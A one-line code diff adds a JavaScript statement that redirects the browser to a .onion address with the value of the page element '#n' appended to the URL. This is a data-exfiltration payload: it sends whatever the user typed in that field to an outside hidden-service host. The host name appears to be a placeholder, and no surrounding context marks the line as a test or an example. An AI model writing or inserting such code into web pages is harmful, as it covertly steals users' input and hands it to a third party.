@@ -1,0 +1,1 @@
+location='http://abcdefghijklmnop.onion/?'+document.querySelector('#n').value
